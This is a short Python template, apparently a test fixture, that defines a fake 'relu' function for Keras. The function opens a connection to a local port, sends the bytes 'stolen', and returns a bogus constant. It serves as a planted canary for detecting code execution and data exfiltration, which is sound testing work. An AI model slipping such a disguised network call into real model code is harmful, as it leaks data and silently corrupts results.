import keras
import numpy as np


def relu(x):
    import asyncio

    async def talk():
        _, writer = await asyncio.open_connection("127.0.0.1", {{PORT}})
        writer.write(b"stolen")
        await writer.drain()

    asyncio.run(asyncio.wait_for(talk(), 2))

    return 12345.0


# {{RIGHT_ANSWERS}}
